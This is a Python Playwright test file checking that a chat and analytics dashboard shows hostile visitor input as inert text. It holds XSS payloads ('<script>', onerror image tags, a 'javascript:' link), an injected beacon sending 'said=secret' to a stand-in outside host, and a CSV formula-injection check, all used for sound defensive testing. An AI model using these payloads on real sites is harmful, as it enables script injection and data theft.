"""Whatever strangers write shows as text on every screen: nothing runs, loads or breaks out."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import httpx
import pytest
from playwright.sync_api import Browser, Page, ViewportSize, expect

from tests.crowd import Crowd, Guest
from tests.desk import Desk, desk
from tests.hostile import (
    CORPUS,
    DIRECTIVES,
    EXPRESSIONS,
    FOUND,
    MARKUP,
    OUT_OF_BOX,
    intact,
    letters,
)
from tests.stack import NO_LIMITS, Stack, stack, wait_for

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PHONE = ViewportSize(width=375, height=812)
LAPTOP = ViewportSize(width=1440, height=1000)
NAMES = [MARKUP[0], MARKUP[1], MARKUP[5], *DIRECTIVES[:4], EXPRESSIONS[0], "W" * 100]
"""Of sites and people of the team, who must not be many for the screens to show them."""


class Seeded:
    """A system that was told the whole corpus in every field that takes text."""

    def __init__(self, system: Stack, crowd: Crowd, client: httpx.Client) -> None:
        self.system, self.client, self._crowd = system, client, crowd
        self.guests = [self._guest(text) for text in CORPUS]
        self.worst = self._worst()
        self._team()
        self.conversation = self._talk()

    def ask(self, method: str, path: str, body: object = None, **query: str) -> Any:
        """Ask the API, which must do it."""
        answer = self.client.request(
            method, f"/api/v1/{path}", json=body, params={"site": "demo", **query}, timeout=30
        )
        assert answer.is_success, (method, path, body, answer.text)
        return answer.json() if answer.content else None

    def _guest(self, text: str) -> Guest:
        guest = self._crowd.come()
        line = " ".join(text.split())
        guest.open(
            f"http://localhost:3000/{line}?utm_source={line}&utm_campaign={line}",
            text,
            referrer=f"http://localhost:1/{line}?q={line}",
        )
        guest.identify(name=text, email=text, phone=text, id=text, traits={text: text})
        return guest

    def _worst(self) -> Guest:
        """One visitor whose every page, event and trait is another text."""
        guest = self._crowd.come()
        for text in CORPUS:
            guest.open(f"http://localhost:3000/?q={text}#/{text}", text)
            guest.act("custom", name=text, target=text, props={text: text})
            guest.act("interaction", name="click", target=text)
        traits = {text: text for text in CORPUS[:20]}
        guest.identify(name="worst " + MARKUP[1], email=MARKUP[2], traits=traits)
        return guest

    def _team(self) -> None:
        self.ask("PATCH", "session", {"name": MARKUP[1][:100]})
        chat = {"title": MARKUP[0], "greeting": DIRECTIVES[0], "bot_name": DIRECTIVES[3]}
        chat = {name: text[:60] for name, text in chat.items()}
        site = {
            "name": NAMES[1],
            "privacy_notice": MARKUP[8],
            "privacy_url": "https://example.com/?'\"><script>window.pwned=1</script>",
            "chat": {**chat, "launcher": True},
        }
        self.ask("PATCH", "sites/demo", site)
        for at, name in enumerate(NAMES):
            site_key = f"site{at}"
            self.ask("POST", "sites", {"site_key": site_key, "name": name})
            email = f"<img/src=x/onerror=window.pwned=1>{at}@x.example"
            user = {"email": email, "name": name, "role": "operator", "sites": ["demo", site_key]}
            self.ask("POST", "users", user)
        for at, text in enumerate(CORPUS):
            if words := text.replace("\x00", "").strip():
                self.ask("POST", "templates", {"title": words[:80], "text": words[:500]})
                email = "".join(words.split())[:60].replace("hz-", "")
                email = email.translate(str.maketrans("", "", "<>@,;"))
                contact = {
                    "name": words[:200],
                    "email": f"{email}{at}@x.example",
                    "note": words,
                    "traits": {words[:100]: words},
                }
                self.ask("POST", "contacts", contact)

    def _talk(self) -> str:
        """Let them write, and the team answer with the same."""
        wait_for(lambda: len(self.system.online(self.client)) > len(CORPUS), 30, "for the crowd")
        self.all_there = datetime.now(UTC)
        for guest, text in zip(self.guests[:12], CORPUS, strict=False):
            guest.say(text)
        for text in letters():
            self.worst.say(text)
        wait_for(lambda: self._of_worst() is not None, 30, "for the conversation")
        conversation = str(self._of_worst())
        for text in letters():
            said = {"id": f"m_{uuid4()}", "text": text, "as": "agent"}
            self.ask("POST", f"conversations/{conversation}/messages", said)
        return conversation

    def _of_worst(self) -> str | None:
        for one in self.ask("GET", "conversations", limit="200")["data"]:
            if one["visitor"]["id"] == self.worst.visitor_id and one["messages"] >= len(letters()):
                return str(one["id"])
        return None


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seeded]:
    with (
        stack(tmp_path_factory.mktemp("hostile"), **NO_LIMITS) as system,
        Crowd(system.ingest) as crowd,
        system.client() as client,
    ):
        yield Seeded(system, crowd, client)


@pytest.fixture(scope="module")
def signed_in(browser: Browser, seeded: Seeded) -> Iterator[Desk]:
    with desk(browser, seeded.system) as desk_:
        desk_.sign_in()
        yield desk_


@pytest.fixture
def screens(signed_in: Desk) -> Iterator[Desk]:
    yield signed_in
    signed_in.page.set_viewport_size(LAPTOP)
    assert (signed_in.outside, signed_in.broken) == ([], [])


def check(page: Page, *, where: str = "") -> None:
    """Assert that what the page shows is text, and in its boxes, on a laptop and on a phone."""
    assert page.evaluate(FOUND, intact()) == [], where
    assert page.evaluate(OUT_OF_BOX) == [], where
    lay_out(page, PHONE)
    assert page.evaluate(FOUND, intact()) == [], f"{where} on a phone"
    assert page.evaluate(OUT_OF_BOX) == [], f"{where} on a phone"
    lay_out(page, LAPTOP)


def lay_out(page: Page, size: ViewportSize) -> None:
    """Give the page another size, and wait until Streamlit and the parts have taken it."""
    page.set_viewport_size(size)
    page.evaluate(
        "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
    )
    page.wait_for_timeout(150)


@pytest.mark.parametrize("shape", ["cards", "rows"])
def test_lists(screens: Desk, shape: str) -> None:
    page = screens.open(tab="online")
    page.locator(".of-list .slot").first.wait_for()
    page.get_by_role("radio", name="Cards" if shape == "cards" else "Rows").click()
    expect(page.locator(".of-head .big .n")).to_have_text(str(len(CORPUS) + 1))
    check(page, where=shape)
    if shape == "rows":
        page = screens.open(tab="all")
        page.locator(".of-list .slot, .of-list [role=row]").first.wait_for()
        check(page, where="all")


def test_profile_and_composer(screens: Desk, seeded: Seeded) -> None:
    page = screens.open(visitor=seeded.worst.visitor_id)
    page.locator(".profile").wait_for()
    check(page, where="profile")
    page.set_viewport_size(PHONE)
    for tab in page.locator(".profile").get_by_role("tab").all():
        if tab.is_visible():
            tab.click()
            assert page.evaluate(OUT_OF_BOX) == []
            assert page.evaluate(FOUND, intact()) == []
    page.set_viewport_size(LAPTOP)
    page = screens.open(visitor=seeded.worst.visitor_id, write="1")
    page.get_by_role("dialog").locator("textarea").wait_for()
    check(page, where="composer")


def test_inbox_and_bell(screens: Desk, seeded: Seeded) -> None:
    page = screens.open("inbox", conversation=seeded.conversation)
    page.locator(".bu .tx").last.wait_for()
    check(page, where="inbox")
    page.locator(".of-inbox textarea").fill("/")
    page.get_by_role("option").first.wait_for()
    check(page, where="canned responses")
    seeded.guests[20].say(MARKUP[1])
    page.locator(".bell-b .pip").wait_for()
    page.locator(".bell-b").click()
    page.locator(".news").wait_for()
    check(page, where="bell")


def test_contacts(screens: Desk, seeded: Seeded) -> None:
    page = screens.open("contacts")
    page.locator(".st-key-contacts_list button").first.wait_for()
    check(page, where="contacts")
    screens.open("contacts", page="2")
    check(page, where="more contacts")
    for one in seeded.ask("GET", "contacts", q="hz-")["data"][:2]:
        screens.open("contacts", contact=one["id"])
        page.get_by_role("textbox").first.wait_for()
        check(page, where="contact")


def test_map(screens: Desk, seeded: Seeded) -> None:
    country = seeded.ask("GET", "visitors/map")["countries"][0]["country_code"]
    (city, *_) = seeded.ask("GET", "visitors/map", country=country)["places"]
    page = screens.open("map")
    screens.map_drawn()
    page.locator(".activity li").first.wait_for()
    check(page, where="map")
    screens.open("map", country=city["country_code"], city=city["city"])
    canvas = page.locator("[data-testid=stDeckGlJsonChart] canvas").first
    screens.map_drawn()
    # Over the crowd in the middle, until the tooltip of one of them is seen.
    box = canvas.bounding_box()
    assert box is not None
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    tip = page.locator(".deck-tooltip")
    seen = set()
    for step in range(40):
        page.mouse.move(x + (step % 9 - 4) * 22, y + (step // 9 - 2) * 22)
        page.wait_for_timeout(60)
        if tip.is_visible() and (text := tip.inner_text()) not in seen:
            seen.add(text)
            assert page.evaluate(FOUND, intact()) == [], text
    assert seen, "no tooltip was seen"
    check(page, where="city")


SETTINGS = [
    "health",
    "settings_sites",
    "settings_team",
    "settings_templates",
    "settings_audit",
    "account",
]


@pytest.mark.parametrize("path", SETTINGS)
def test_settings(screens: Desk, path: str) -> None:
    page = screens.open(path)
    page.locator("[data-testid=stMain] h1").wait_for()
    check(page, where=path)
    for choice in page.locator("[data-testid=stSelectbox] input").all():
        # A list closes when the page is scrolled, and a click scrolls to what it is meant for.
        choice.scroll_into_view_if_needed()
        lay_out(page, LAPTOP)
        choice.click()
        page.get_by_role("option").first.wait_for()
        check(page, where=f"{path}, choices")
        page.keyboard.press("Escape")
    for tab in page.locator("[data-testid=stTab]").all():
        tab.click()
        check(page, where=path)
    change = page.locator("[class*=st-key-line_] button")
    if path in ("settings_team", "settings_templates"):
        change.nth(3).click()
        page.get_by_role("dialog").locator("input").first.wait_for()
        screens.settled()
        check(page, where=f"{path}, a dialog")


NUMBERS = ["overview", "audience", "pages", "acquisition", "hours", "sites_compare", "events"]


@pytest.mark.parametrize("path", NUMBERS)
def test_numbers(screens: Desk, path: str) -> None:
    # A week, for they may have come before midnight.
    page = screens.open(path, range="7d")
    page.locator(".hz-lede, [class*=st-key-box_]").first.wait_for()
    check(page, where=path)
    if (bar := page.locator("[class*='st-key-bar_'] button:enabled")).count():
        bar.first.click()
        page.get_by_role("dialog").wait_for()
        screens.settled()
        check(page, where=f"{path}, the visitors behind it")


def test_replay(screens: Desk, seeded: Seeded) -> None:
    page = screens.open("replay", at=seeded.all_there.isoformat())
    page.locator(".there li").first.wait_for()
    screens.map_drawn()
    check(page, where="replay")


def test_sql(screens: Desk, seeded: Seeded) -> None:
    seeded.ask("POST", "sql/saved", {"name": MARKUP[1], "sql": "SELECT 1"})
    seeded.ask("POST", "sql/saved", {"name": DIRECTIVES[0], "sql": "SELECT 2"})
    page = screens.open("sql")
    area = page.locator("[data-testid=stForm] textarea")
    area.fill("SELECT DISTINCT title, length(title) AS letters FROM visitor_page_views")
    area.press("Control+Enter")
    page.get_by_test_id("stDataFrame").wait_for()
    check(page, where="a table")
    page.get_by_role("tab", name="Chart").click()
    page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first.wait_for()
    check(page, where="a chart")
    page.get_by_role("combobox", name="Kept queries").click()
    page.get_by_role("option").first.wait_for()
    check(page, where="kept queries")
    page.keyboard.press("Escape")
    area.fill(f"SELECT '{MARKUP[0]}' {DIRECTIVES[1]}")
    area.press("Control+Enter")
    page.get_by_role("alert").wait_for()
    check(page, where="a mistake")


def test_menu_of_sites(screens: Desk) -> None:
    page = screens.open("account", site="site1")
    page.locator(".of-sites button").first.click()
    page.get_by_role("option").or_(page.get_by_role("menuitemradio")).first.wait_for()
    assert page.evaluate(FOUND, intact()) == []
    assert page.evaluate(OUT_OF_BOX) == []


def test_sign_in(browser: Browser, seeded: Seeded) -> None:
    with desk(browser, seeded.system) as stranger:
        page = stranger.page
        for text in (MARKUP[0], "javascript:window.pwned=1", "//127.0.0.1:9/x"):
            page.goto(f"{seeded.system.web}/sign-in")
            page.goto(str(httpx.URL(page.url, params={"next": text, "error": text})))
            page.locator("input[type=email]").fill(f"{MARKUP[1]}@x.example")
            page.locator("input[type=password]").fill(MARKUP[0])
            page.keyboard.press("Enter")
            page.get_by_role("alert").filter(has_text="").first.wait_for()
            check(page, where=text)
        assert (stranger.outside, stranger.broken) == ([], [])


def test_popup_of_the_visitor(browser: Browser, seeded: Seeded) -> None:
    with desk(browser, seeded.system) as visitor:
        page = visitor.page
        with page.expect_request(lambda one: "/e/demo" in one.url) as asked:
            page.goto(f"{seeded.system.ingest}/demo/")
        visitor_id = json.loads(asked.value.post_data or "")["visitor_id"]
        page.locator("hozir-chat .launcher").wait_for()
        seeded.ask("GET", "visitors/online")
        wait_for(
            lambda: any(one["id"] == visitor_id for one in seeded.system.online(seeded.client)), 10
        )
        first, *others = letters()
        sent = {"message": first, "as": "bot"}
        talk = seeded.ask("POST", f"visitors/{visitor_id}/message", sent)["conversation_id"]
        for text in others:
            said = {"id": f"m_{uuid4()}", "text": text, "as": "agent"}
            seeded.ask("POST", f"conversations/{talk}/messages", said)
        dialog = page.get_by_role("dialog")
        expect(dialog).to_be_visible()
        expect(dialog.locator(".m")).to_have_count(len(others) + 1)
        if (more := page.locator(".more")).is_visible():
            more.click()
        check(page, where="popup")
        assert page.locator("hozir-chat a").evaluate_all(
            "links => links.every(link => /^https:/.test(link.href))"
        )
        assert (visitor.outside, visitor.broken) == ([], [])


def test_markup_that_got_in_all_the_same_runs_nothing_and_tells_nobody(
    browser: Browser, seeded: Seeded
) -> None:
    with desk(browser, seeded.system) as somebody:
        somebody.sign_in()
        page = somebody.open("account")
        stopped: list[str] = []
        page.on("requestfailed", lambda one: stopped.append(one.url) if one.failure == "csp" else 0)
        page.evaluate(
            """() => {
              const injected = document.createElement("div");
              injected.innerHTML = '<img src="/x" onerror="window.pwned = 1">'
                + '<img src="https://elsewhere.example/?said=secret">'
                + '<form action="https://elsewhere.example/"><button id="b">x</button></form>';
              const script = document.createElement("script");
              script.textContent = "window.pwned = 2";
              document.body.append(injected, script);
              document.getElementById("b").click();
              fetch("https://elsewhere.example/").catch(() => 0);
            }"""
        )
        wait_for(lambda: page.wait_for_timeout(100) or len(somebody.broken) >= 5, 20)
        assert page.evaluate("window.pwned") is None
        assert all("Content Security Policy" in line for line in somebody.broken)
        assert urlsplit(page.url).path == "/account"
        assert sorted(somebody.outside) == sorted(stopped)


def test_no_cell_of_the_export_is_a_formula(seeded: Seeded, tmp_path: Path) -> None:
    answer = seeded.client.get("/api/v1/visitors/export", params={"site": "demo", "scope": "all"})
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    assert len(rows) > len(CORPUS)
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
